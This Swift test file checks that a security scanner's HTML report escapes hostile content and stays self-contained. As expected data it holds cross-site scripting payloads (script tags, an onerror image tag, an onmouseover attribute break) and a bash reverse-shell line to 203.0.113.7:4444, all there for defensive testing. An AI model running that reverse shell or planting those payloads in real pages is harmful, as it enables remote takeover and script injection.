import Foundation
import SkillScanCore
import SkillScanReporters
import Testing

@Suite struct HTMLReporterTests {
  private func render(_ report: ScanReport, options: ReportOptions = ReportOptions()) throws -> String {
    String(decoding: try HTMLReporter(options: options).render(report), as: UTF8.self)
  }

  @Test func hostileSnippetsCannotOpenTagsOrBreakAttributes() throws {
    let html = try render(HostileReport.report)
    // The page's own markup has no script at all, so any `<script` would be the attacker's.
    #expect(!html.lowercased().contains("<script"))
    #expect(!html.contains("<img"))
    #expect(!html.contains("<iframe"))
    #expect(!html.contains(HostileReport.attribute), "a quote must never close an attribute")
    #expect(!html.contains("' onmouseover='"))
    #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
    #expect(html.contains("&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"))
    #expect(html.contains("x&#39; onmouseover=&#39;alert(3).sh:1:2"))
    #expect(html.contains("&amp;amp;"), "entities in scanned text are shown, not decoded")
    // Exactly one stylesheet: ours. A `</style>` from the skill must not end it or add one.
    #expect(html.components(separatedBy: "</style>").count == 2)
    #expect(html.components(separatedBy: "<title>").count == 2)
  }

  @Test func pageIsSelfContained() throws {
    let html = try render(SampleReport.report)
    #expect(html.hasPrefix("<!DOCTYPE html>"))
    #expect(html.contains("<style>") && html.contains("<svg"))
    for external in ["src=\"http", "href=\"http", "<link", "@import", "url(", "<script"] {
      #expect(!html.contains(external), "external asset or script: \(external)")
    }
    #expect(html.contains("default-src 'none'"))
  }

  @Test func skillSectionsCarryBadgeCategoriesAndHighlightedSnippet() throws {
    let html = try render(SampleReport.report)
    #expect(html.contains("<span class=\"badge malicious\">MALICIOUS</span> skills/evil"))
    #expect(html.contains("<span class=\"badge suspicious\">SUSPICIOUS</span> uploads/bad.zip"))
    for heading in ["Prompt injection (1)", "Supply chain (1)", "System compromise (1)", "Data exfiltration (1)", "Integrity (1)"] {
      #expect(html.contains("<h3 class=\"category\">\(heading)</h3>"), "\(heading)")
    }
    #expect(html.contains("<mark>bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1</mark>"))
    // Safe skills fold into one <details> list.
    #expect(html.contains("<details class=\"safe\"><summary>1 safe skill</summary>"))
    #expect(html.contains("<li>skills/fine <small>(fine)</small></li>"))
  }

  @Test func suppressedFindingsAreGreyedAndLabelled() throws {
    let html = try render(SampleReport.report)
    let start = try #require(html.range(of: "<div class=\"finding low suppressed\">"))
    let block = html[start.lowerBound...].prefix(700)
    #expect(block.contains("<code>hardcoded-secret</code>"))
    #expect(block.contains("SUPPRESSED (inline)"))
    #expect(block.contains("Suppressed: test fixture"))
  }

  @Test func chartsCountVerdictsAndActiveFindingsPerCategory() throws {
    let html = try render(SampleReport.report)
    #expect(html.contains("aria-label=\"Skills by verdict\""))
    #expect(html.contains("aria-label=\"Active findings by category\""))
    // Supply chain: one active finding (SC2); the suppressed secret does not count.
    let categories = try #require(html.range(of: "aria-label=\"Active findings by category\""))
    let chart = html[categories.lowerBound...]
    let supply = try #require(chart.range(of: ">Supply chain</text>"))
    #expect(chart[supply.upperBound...].prefix(200).contains("class=\"value\">1</text>"))
    let exfil = try #require(chart.range(of: ">Data exfiltration</text>"))
    #expect(chart[exfil.upperBound...].prefix(200).contains("class=\"value\">0</text>"))
  }

  @Test func onlyFlaggedLeavesOutSafeSkills() throws {
    let html = try render(SampleReport.report, options: ReportOptions(onlyFlagged: true))
    #expect(!html.contains("skills/fine"))
    #expect(html.contains("skills/evil"))
  }
}
